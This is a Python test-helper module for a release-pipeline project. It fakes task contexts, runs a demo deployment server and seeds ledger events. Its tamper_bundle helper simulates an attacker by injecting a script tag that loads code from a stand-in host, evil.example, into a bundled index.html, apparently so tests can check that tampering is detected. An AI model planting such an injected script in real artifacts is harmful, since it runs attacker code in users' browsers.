"""Test helpers: the real demo fleet in a thread, a fake task context."""

from __future__ import annotations

import importlib.util
import io
import json
import tarfile
import threading
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from tests.conftest import PROJECT_ROOT


def load_fleet_module():
    spec = importlib.util.spec_from_file_location("demo_fleet", PROJECT_ROOT / "include" / "demo_fleet" / "fleet.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@contextmanager
def running_fleet(
    seed: dict[str, str] | None = None,
    deploy_seconds: float = 0.3,
    credentials: tuple[str, str] | None = ("deployer", "s3cret-pass"),
):
    fleet_mod = load_fleet_module()
    fleet = fleet_mod.Fleet(deploy_seconds, seed or {})
    server = fleet_mod.serve("127.0.0.1", 0, fleet, credentials)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield fleet, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def http_connection(url: str, credentials: tuple[str, str] | None = ("deployer", "s3cret-pass")) -> str:
    conn: dict[str, Any] = {"conn_type": "http", "host": url}
    if credentials:
        conn.update(login=credentials[0], password=credentials[1])
    return json.dumps(conn)


class FakeTI:
    """Just enough of a task instance for ``xcom_pull``/``xcom_push`` (XCom is display only:
    gates read the ledger, see :func:`seed`)."""

    def __init__(self, xcoms: dict[tuple[str, str], Any] | None = None, task_id: str = ""):
        self.xcoms = dict(xcoms or {})
        self.task_id = task_id

    def xcom_pull(self, task_ids: str, key: str = "return_value") -> Any:
        return self.xcoms.get((task_ids, key))

    def xcom_push(self, key: str, value: Any) -> None:
        self.xcoms[("__self__", key)] = value


class FakeDagRun:
    def __init__(self, triggering_user_name: str | None, conf: dict | None = None, run_type: str = "manual"):
        self.triggering_user_name = triggering_user_name
        self.conf = conf or {}
        self.run_type = run_type
        self.dag_id = DAG_ID


RELEASE = "storefront"
DAG_ID = "release_storefront"
RUN_ID = "manual__test"
# What the demo author asks for in the adapter tests: the DAG run's params (its conf).
PARAMS = {"version": "2.0.0", "requested_by": "dev-lead", "change_summary": "x"}


def context(
    ti: FakeTI,
    *,
    params: dict | None = None,
    triggered_by: str | None = "author",
    conf: dict | None = None,
    task_id: str | None = None,
    run_type: str = "manual",
) -> dict[str, Any]:
    """A task context whose DAG run carries the request (``params``, default :data:`PARAMS`)."""
    params = dict(PARAMS if params is None else params)
    dag_run = FakeDagRun(triggered_by, conf if conf is not None else params, run_type)
    if task_id is not None:
        ti.task_id = task_id
    return {"ti": ti, "params": params, "dag_run": dag_run, "run_id": RUN_ID}


def seed(kind: str, *, environment: str = "", actor: str = "", task_id: str = "", **details: Any) -> None:
    """Write an event of this run to the ledger, as the task ``task_id`` would have."""
    from releasetrain.hooks.ledger import LedgerHook

    if task_id:
        details["task_id"] = task_id
    hook = LedgerHook()
    try:
        hook.append(
            kind,
            release=RELEASE,
            run_id=RUN_ID,
            dag_id=DAG_ID,
            environment=environment,
            actor=actor,
            details=details,
        )
    finally:
        hook.close()


def run_events(kind: str | None = None) -> list:
    """This run's ledger events (optionally of one kind)."""
    from releasetrain.hooks.ledger import LedgerHook

    hook = LedgerHook()
    try:
        return list(hook.events(release=RELEASE, run_id=RUN_ID, dag_id=DAG_ID, kind=kind))
    finally:
        hook.close()


def tamper_bundle(bundle: Path, member_suffix: str = "index.html") -> None:
    """Alter one file inside a stored bundle, as an attacker with write access would."""
    with tarfile.open(bundle, "r:gz") as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar]
    with tarfile.open(bundle, "w:gz") as tar:
        for member, data in members:
            if member.name.endswith(member_suffix):
                data += b"<script src='https://evil.example/x.js'></script>"
                member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
